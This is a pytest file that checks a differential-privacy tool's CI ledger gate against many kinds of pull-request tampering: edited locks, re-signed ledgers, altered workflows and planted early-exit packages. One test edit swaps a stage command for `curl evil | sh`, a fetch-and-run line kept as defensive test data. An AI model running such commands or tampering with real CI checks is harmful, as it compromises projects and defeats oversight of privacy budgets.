"""Each way in which a pull request can affect `stage ledger check` in CI is refused, or listed in
docs/tutorials/ci.md.
"""

import hashlib
import json
import os
import re
import shlex
import shutil
import subprocess
from collections.abc import Callable
from io import StringIO
from pathlib import Path

import pytest
from program import call
from small_lock import write_lock_of_another_machine
from small_record import small_record

from sfumato.planning.project_files import workflow_text
from sfumato.privacy.check import empty_artifact_md5
from sfumato.privacy.events import SEEDED, UNITS, Mechanism
from sfumato.privacy.ledger import build_ledger, ledger_text
from sfumato.settings.data import GROUP
from sfumato.settings.stages import QUERIES
from sfumato.storage.digest import digest_of
from sfumato.storage.documents import read_yaml
from sfumato.storage.records import Records
from stages.cli import main

ROOT = Path(__file__).resolve().parents[2]
DEMO = ROOT / "docs" / "gallery" / "digits"
PAGE = ROOT / "docs" / "tutorials" / "ci.md"
WORKFLOW = Path(".github/workflows/ledger.yml")
LEDGER = Path("ledger.json")
LOCK = Path("dvc.lock")
ABORTED = small_record(7, Mechanism(noise_multiplier=2.0))
DEAR = small_record(8, Mechanism(noise_multiplier=1.0), stage="frequency")
OF_GROUPS = {"unit": UNITS[GROUP], "group_weight": "mean"}


# ---- what a pull request does to its files


def read_json() -> dict:
    return json.loads(LEDGER.read_text())


def edit_lock(change: Callable[[dict], object]) -> None:
    """Apply `change` to the stages of the lock."""
    content = read_yaml(LOCK)
    change(content["stages"])
    LOCK.write_text(json.dumps(content))  # JSON is YAML, and fast to write


def relock() -> None:
    """Write the ledger's md5 into the lock, which otherwise stays as DVC writes it."""
    text = LOCK.read_text()
    (old,) = {*re.findall(r"path: ledger\.json\n +hash: md5\n +md5: (\w+)", text)}
    LOCK.write_text(text.replace(old, hashlib.md5(LEDGER.read_bytes()).hexdigest()))


def conflict(path: Path) -> None:
    """Add git's marks of a merge conflict to a file."""
    path.write_text(path.read_text() + "<<<<<<< HEAD\n=======\n{}\n>>>>>>> theirs\n")


def sign(ledger: dict) -> None:
    """Write a ledger with the digest that fits it."""
    body = {key: value for key, value in ledger.items() if key != "digest"}
    LEDGER.write_text(ledger_text({**body, "digest": digest_of(body)}))


def rebuild(change: Callable[[list[dict]], object] = len, others: bool = True, **budget) -> None:
    """Write a ledger of changed records, with another budget, as the program would.

    others: whether the odometer also counts an aborted charge.
    """
    old = read_json()
    records = old["records"]
    change(records)
    journal = [*records, ABORTED] if others else records
    given = {"dataset_id": records[0]["dataset_id"], "head": old["odometer"]["head"] or "f" * 64}
    LEDGER.write_text(
        ledger_text(build_ledger(old | budget, Records.of(records), journal, **given))
    )


def record_of(records: list[dict], stage: str) -> dict:
    return next(record for record in records if record["stage"] == stage)


def raise_noise(records: list[dict]) -> None:
    record_of(records, "frequency")["event"]["noise_multiplier"] = 50.0


def trim_count(records: list[dict]) -> None:
    records.remove(record_of(records, "count"))


def each(**fields) -> Callable[[list[dict]], object]:
    return lambda records: [record.update(fields) for record in records]


def cheaper(ledger: dict) -> None:
    ledger["epsilon"] = dict.fromkeys(ledger["epsilon"], 0.01)


def resigned(change: Callable[[dict], object]) -> Callable[[], None]:
    """Return an edit that changes the ledger, and updates its digest and the lock."""

    def edit() -> None:
        ledger = read_json()
        change(ledger)
        sign(ledger)
        relock()

    return edit


def rewritten(change: Callable[[list[dict]], object] = len, **more) -> Callable[[], None]:
    """Return an edit that writes a ledger of other records, as the program would.

    The edit also updates the lock.
    """

    def edit() -> None:
        rebuild(change, **more)
        relock()

    return edit


def replaced(path: Path, target: str | None = None, text: str | bytes = "") -> Callable[[], None]:
    """Return an edit that replaces a file by a link or other content.

    The edit also writes a ledger with a lower cost and a correct digest.
    """

    def edit() -> None:
        rebuild(raise_noise)
        path.unlink()
        if target is not None:
            path.symlink_to(target)
        else:
            path.write_bytes(text if isinstance(text, bytes) else text.encode())

    return edit


def as_folder(path: Path) -> None:
    path.unlink()
    path.mkdir()
    (path / "file").write_text("")


def linked(path: Path) -> Callable[[], None]:
    """Return an edit that moves a file elsewhere in the repository, and links to it."""

    def edit() -> None:
        shutil.move(path, "elsewhere")
        path.symlink_to("elsewhere")

    return edit


def with_text(path: Path, old: str, new: str) -> Callable[[], None]:
    def edit() -> None:
        text = path.read_text()
        assert old in text
        path.write_text(text.replace(old, new, 1))

    return edit


def appended(path: str | Path, text: str) -> Callable[[], None]:
    def edit() -> None:
        Path(path).parent.mkdir(parents=True, exist_ok=True)
        with Path(path).open("a") as file:
            file.write(text)

    return edit


def in_lock(change: Callable[[dict], object]) -> Callable[[], None]:
    return lambda: edit_lock(change)


def both(*edits: Callable[[], object]) -> Callable[[], None]:
    return lambda: [edit() for edit in edits] and None


def out_of(stages: dict, stage: str) -> dict:
    return stages[stage]["outs"][0]


def forget_count(stages: dict) -> None:
    """Remove the entry of `count`, and its mentions in all other stages."""
    del stages["count"]
    for stage in stages.values():
        stage["deps"] = [
            file for file in stage.get("deps", ()) if file["path"] != "artifacts/count"
        ]


def respell_count(stages: dict) -> None:
    for stage in stages.values():
        for file in (*stage.get("deps", ()), *stage.get("outs", ())):
            file["path"] = file["path"].replace("artifacts/count", "./artifacts//count")


def without_count(change: Callable[[dict], object]) -> Callable[[], None]:
    """Return an edit that removes the record of `count` from the ledger.

    change: edit of the lock that adapts it to this ledger.
    """
    return both(rewritten(trim_count), in_lock(change))


def list_twice(stages: dict) -> None:
    """Add a second stage that wrote the present ledger."""
    md5 = hashlib.md5(LEDGER.read_bytes()).hexdigest()
    stages["again"] = {"cmd": "true", "outs": [out_of(stages, "ledger") | {"md5": md5}]}


OTHER = "0" * 32 + ".dir"
TOGETHER = "`ledger.json` and `dvc.lock` together"
NEXT_RUN = "`params.yaml`, recipes, profiles"
SETTINGS = "`.dvc/config`, `.gitignore`, `.gitattributes`"
NESTED = "[" * 100_000
# Name -> edit of a pull request, and a text. If the gate accepts the edit, the text is the row of
# docs/tutorials/ci.md that covers the edit. Otherwise, it is a part of the gate's message.
EDITS: dict[str, tuple[Callable[[], object], str]] = {
    # the lock
    "lock deleted": (both(lambda: rebuild(raise_noise), LOCK.unlink), "dvc.lock does not exist"),
    "lock a dangling link": (replaced(LOCK, "nowhere"), "dvc.lock is a link"),
    "lock a link to a lock": (linked(LOCK), "dvc.lock is a link"),
    "lock a folder": (lambda: as_folder(LOCK), "is a folder"),
    "lock empty": (replaced(LOCK), "dvc.lock cannot be read"),
    "lock not YAML": (replaced(LOCK, text="{"), "dvc.lock cannot be read"),
    "lock not text": (replaced(LOCK, text=b"\xff\xfe"), "dvc.lock cannot be read"),
    "lock in conflict": (lambda: conflict(LOCK), "git checkout HEAD -- ledger.json dvc.lock"),
    "lock too large": (appended(LOCK, "#" * 2**20), "more than 1,048,576 bytes"),
    "lock nested deeply": (replaced(LOCK, text=NESTED), "nested more than"),
    "lock with an alias": (replaced(LOCK, text="schema: &a '2.0'\nstages: {x: *a}"), "an alias"),
    "lock of another schema": (with_text(LOCK, "'2.0'", "'1.0'"), "dvc.lock cannot be read"),
    "lock with a stage twice": (
        appended(LOCK, "  ledger: {outs: []}\n"),
        "the key 'ledger' appears twice",
    ),
    "lock without the ledger": (
        in_lock(lambda stages: stages.pop("ledger")),
        "does not list ledger.json",
    ),
    "lock with two ledgers": (
        both(lambda: rebuild(raise_noise), in_lock(list_twice)),
        "as written by two stages",
    ),
    "ledger's md5 changed": (
        in_lock(lambda x: out_of(x, "ledger").update(md5="0" * 32)),
        "a different md5",
    ),
    "ledger's md5 missing": (
        in_lock(lambda x: out_of(x, "ledger").pop("md5")),
        "contains no md5 of ledger.json",
    ),
    "ledger's hash missing": (
        in_lock(lambda x: out_of(x, "ledger").pop("hash")),
        "contains no md5 of ledger.json",
    ),
    "ledger's hash another": (
        in_lock(lambda x: out_of(x, "ledger").update(hash="sha1")),
        "contains no md5 of ledger",
    ),
    "query's hash missing": (
        in_lock(lambda x: out_of(x, "count").pop("hash")),
        "contains no md5 of artifacts/count",
    ),
    "query ran after the ledger": (
        in_lock(lambda x: out_of(x, "count").update(md5=OTHER)),
        "written before",
    ),
    "release made after the ledger": (
        in_lock(lambda x: out_of(x, "synthesize").update(md5=OTHER)),
        "written before",
    ),
    "query and record removed": (
        without_count(lambda stages: stages.pop("count")),
        "stage count ran",
    ),
    "query spelled otherwise": (without_count(respell_count), "stage count ran"),
    "query called switched off": (
        without_count(lambda x: out_of(x, "count").update(md5=empty_artifact_md5("count"))),
        "stage count ran",
    ),
    # the ledger
    "ledger deleted": (LEDGER.unlink, "ledger.json does not exist"),
    "ledger a link": (linked(LEDGER), "ledger.json is a link"),
    "ledger a dangling link": (replaced(LEDGER, "nowhere"), "ledger.json does not exist"),
    "ledger a folder": (lambda: as_folder(LEDGER), "is a folder"),
    "ledger empty": (replaced(LEDGER), "truncated or not JSON"),
    "ledger in conflict": (lambda: conflict(LEDGER), "git checkout HEAD -- ledger.json dvc.lock"),
    "ledger nested deeply": (both(replaced(LEDGER, text=NESTED), relock), "nested more than"),
    "ledger with a key twice": (
        both(with_text(LEDGER, '"delta"', '"delta": 0.1, "delta"'), relock),
        "appears twice",
    ),
    "ledger in other line ends": (
        appended(".gitattributes", "ledger.json text eol=crlf\n"),
        "a different md5",
    ),
    "target lowered": (
        with_text(LEDGER, '"target": 10.0', '"target": 5.0'),
        "its digest does not match",
    ),
    "epsilon lowered, signed": (resigned(cheaper), "its records cost"),
    "record removed, signed": (lambda: rebuild(trim_count), "a different md5"),
    "noise raised, signed": (lambda: rebuild(raise_noise), "a different md5"),
    "accountant swapped, signed": (lambda: rebuild(accountant="exact"), "a different md5"),
    "dataset renamed, signed": (lambda: rebuild(each(dataset_id="new")), "a different md5"),
    "odometer lowered, signed": (lambda: rebuild(others=False), "a different md5"),
    "odometer's total lowered": (
        resigned(lambda x: x["odometer"].update(epsilon=1.0)),
        "its odometer states epsilon=",
    ),
    "record listed twice": (
        resigned(lambda x: x["records"].append(x["records"][0])),
        "contains a record twice",
    ),
    "noise by a seed": (
        resigned(lambda x: x["records"][0].update(noise_source=SEEDED)),
        "seeded noise source",
    ),
    "record without noise": (rewritten(each(noise_source="none")), "no privacy guarantee"),
    "units mixed": (
        resigned(lambda x: x["records"][0].update(OF_GROUPS)),
        "different privacy units",
    ),
    "target raised": (
        both(
            rewritten(lambda records: records.append(DEAR), target=50.0),
            appended("params.yaml", "\n# ε = 50\n"),
        ),
        "exceeds the limit 10",
    ),
    "delta raised": (
        rewritten(
            lambda records: record_of(records, "teacher")["event"].update(noise_multiplier=1.4),
            delta=6e-4,
        ),
        "exceeds the limit 10",
    ),
    "unit renamed": (rewritten(each(**OF_GROUPS)), "its privacy unit is"),
    # ledger and lock together
    "accountant swapped, locked": (rewritten(accountant="exact"), TOGETHER),
    "dataset renamed, locked": (rewritten(each(dataset_id="new")), TOGETHER),
    "odometer lowered, locked": (rewritten(others=False), TOGETHER),
    "noise raised, locked": (rewritten(raise_noise), TOGETHER),
    "query removed everywhere": (without_count(forget_count), TOGETHER),
    # other files
    "another stage's md5": (
        in_lock(lambda x: out_of(x, "report").update(md5=OTHER)),
        "other entries of `dvc.lock`",
    ),
    "bound of the workflow raised": (
        with_text(WORKFLOW, "--epsilon 10", "--epsilon 99"),
        "the workflow",
    ),
    "workflow that always passes": (
        with_text(WORKFLOW, "- run: stage", "- run: true || stage"),
        "the workflow",
    ),
    "workflow deleted": (WORKFLOW.unlink, "the workflow"),
    "package of someone else": (
        with_text(WORKFLOW, 'install "$SFUMATO"', "install ./package"),
        "the workflow",
    ),
    "budget of the next run": (appended("params.yaml", "\nprivacy: {epsilon: 99}\n"), NEXT_RUN),
    "recipe of the next run": (appended("pipelines/full.yaml", "\n# changed\n"), NEXT_RUN),
    "profile of the next run": (
        appended("pipelines/profiles/demo.yaml", "\n# changed\n"),
        NEXT_RUN,
    ),
    "command of a stage": (
        with_text(Path("dvc.yaml"), "cmd: stage count", "cmd: curl evil | sh"),
        "`dvc.yaml`",
    ),
    "stage frozen": (
        with_text(Path("dvc.yaml"), "    cmd: stage count", "    frozen: true\n    cmd: x"),
        "`dvc.yaml`",
    ),
    "package beside the ledger": (
        both(
            *(
                appended(f"{name}/__init__.py", "raise SystemExit(0)\n")
                for name in ("sfumato", "stages")
            )
        ),
        "code",
    ),
    "remote of someone else": (
        appended(".dvc/config", "['remote \"x\"']\n    url = s3://x\n"),
        SETTINGS,
    ),
    "ignored files taken": (Path(".gitignore").unlink, SETTINGS),
    "ledger hidden in reviews": (appended(".gitattributes", "ledger.json -diff\n"), SETTINGS),
}


# ---- the gate


def git(folder: Path, *words: str) -> None:
    subprocess.run(["git", "-C", str(folder), *words], check=True, capture_output=True)


@pytest.fixture(scope="module")
def base(tmp_path_factory) -> Path:
    """Create a project from the repository's own demo.

    It has the demo's parameters, recipes, lock and ledger, and an aborted charge.
    """
    folder = tmp_path_factory.mktemp("gate") / "base"
    folder.mkdir()
    for name in ("params.yaml", "dvc.yaml", ".gitignore", ".dvc/config"):
        (folder / name).parent.mkdir(exist_ok=True)
        shutil.copy(ROOT / name, folder / name)
    shutil.copy(DEMO / "ledger.json", folder)
    shutil.copytree(ROOT / "pipelines", folder / "pipelines")
    before = Path.cwd()
    os.chdir(folder)
    rebuild()
    ledger = read_json()
    write_lock_of_another_machine({*QUERIES} - {record["stage"] for record in ledger["records"]})
    os.chdir(before)
    (folder / WORKFLOW).parent.mkdir(parents=True)
    (folder / WORKFLOW).write_text(workflow_text(ledger["target"], ledger["delta"], "image"))
    git(folder, "init", "-q")
    (folder.parent / "state").mkdir()
    return folder


def gate(base: Path, edit: Callable[[], object], environment) -> tuple[int, str]:
    """Run the base's command on a fresh checkout of a pull request that makes this edit.

    Returns the exit code and the output.
    """
    fork = base.with_name("fork")
    checkout = base.with_name("checkout")
    for folder in (fork, checkout):
        shutil.rmtree(folder, ignore_errors=True)
    shutil.copytree(base, fork)
    os.chdir(fork)
    edit()
    git(fork, "add", "-A")
    git(fork, "checkout-index", "-a", f"--prefix={checkout}/")
    os.chdir(checkout)
    environment["SFUMATO_STATE"] = str(base.with_name("state"))
    (last,) = re.findall("run: (stage .*)", (base / WORKFLOW).read_text())
    screen = StringIO()
    return call(main, *shlex.split(last), screen=screen), " ".join(screen.getvalue().split())


def rows() -> set[str]:
    """Return the first column of the table in PAGE of changes that the check does not detect."""
    (table,) = re.findall(r"\| a pull request that changes .*?\n\n", PAGE.read_text(), re.DOTALL)
    return {line.split("|")[1].strip() for line in table.strip().splitlines()[2:]}


def test_the_gate_accepts_the_base(base, environment):
    code, text = gate(base, lambda: Path("new").write_text(""), environment)
    assert code == 0 and "compared with dvc.lock" in text, text


@pytest.mark.parametrize("name", EDITS)
def test_an_edit_is_refused_or_on_the_page(name, base, environment):
    edit, said = EDITS[name]
    code, text = gate(base, edit, environment)
    if said in rows():
        assert code == 0, text
    else:
        assert code == 3 and said in text, (code, text)


def test_every_row_of_the_page_is_tried():
    assert len(EDITS) >= 40 and rows() == {said for _, said in EDITS.values()} & rows()


def test_a_ledger_without_its_project_is_checked_alone(here):
    shutil.copy(DEMO / "ledger.json", "ledger.json")

    def run(*options: str) -> tuple[int, str]:
        screen = StringIO()
        return call(main, "stage", "ledger", "check", *options, screen=screen), screen.getvalue()

    code, text = run()
    assert code == 3 and "dvc.lock does not exist" in text and "--ledger-only" in text
    code, text = run("--ledger-only")
    assert code == 0 and "not compared with a run" in text
    assert run("--ledger-only", "--epsilon", "5")[0] == 3
    assert run("--ledger-only", "--artifacts")[0] == 2
    for name in ("dvc.lock", "dvc.yaml", "params.yaml", ".dvc"):
        Path(name).symlink_to("nowhere")
        code, text = run("--ledger-only")
        assert code == 2 and f"ledger.json belongs to a project, because {name} exists" in text
        Path(name).unlink()
